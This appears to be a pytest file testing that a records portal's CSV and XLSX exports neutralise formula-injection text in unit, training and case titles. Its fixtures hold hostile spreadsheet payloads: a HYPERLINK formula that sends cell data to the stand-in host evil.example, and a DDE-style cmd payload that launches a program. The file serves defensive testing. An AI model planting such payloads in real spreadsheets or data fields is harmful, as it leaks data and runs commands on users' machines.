"""Exports never run what users typed (issue 13, contracts.md "Exports"): a unit name, a
training title (what a study claim becomes) and a case title that start like a formula
come back from ``portal export`` as text, in CSV and in XLSX, and import back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests import factories

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此领取")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+2 学习强国"


@pytest.fixture
def typed(run, session, tmp_path):
    """A unit, a training record and a case whose texts start like formulas."""
    factories.city(session)
    files = {
        "units": f"code,name,level,parent_code\nK9,\"{LINK.replace(chr(34), chr(34) * 2)}\",community,S1\n",  # noqa: E501
        "training": f"cadre_code,title,category,hours,mode,completed_on\nC0001,{PLUS},theory,4,online,2026-03-02\n",  # noqa: E501
        "cases": f"case_no,cadre_code,stage,opened_on,title\nJ-1,C0001,clue,2026-02-01,\"{SUM}\"\n",
    }
    for kind, content in files.items():
        path = tmp_path / f"{kind}.csv"
        path.write_text(content, encoding="utf-8")
        result = run("import", kind, path)
        assert result.exit_code == 0, result.output
    return {"units": LINK, "training": PLUS, "cases": SUM}


@pytest.mark.parametrize("kind", ["units", "training", "cases"])
def test_a_csv_export_prefixes_formula_text_so_a_spreadsheet_shows_it(run, typed, tmp_path, kind):
    out = tmp_path / f"{kind}.csv"
    assert run("export", kind, out).exit_code == 0
    cells = [
        cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for cell in row
    ]
    assert "'" + typed[kind] in cells and typed[kind] not in cells


@pytest.mark.parametrize("kind", ["units", "training", "cases"])
def test_an_xlsx_export_writes_formula_text_as_a_text_cell(run, typed, tmp_path, kind):
    out = tmp_path / f"{kind}.xlsx"
    assert run("export", kind, out).exit_code == 0
    cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
    found = [cell for cell in cells if cell.value == typed[kind]]
    assert found and all(cell.data_type == "s" for cell in found)
    assert not any(cell.data_type == "f" for cell in cells)


def test_the_csv_export_imports_back_unchanged(run, typed, tmp_path, session):
    from portal.models import Unit

    out = tmp_path / "units-again.csv"
    assert run("export", "units", out).exit_code == 0
    result = run("import", "units", out)
    assert result.exit_code == 0 and "1 updated" not in result.output, result.output
    session.expire_all()
    assert session.query(Unit).filter_by(code="K9").one().name == LINK
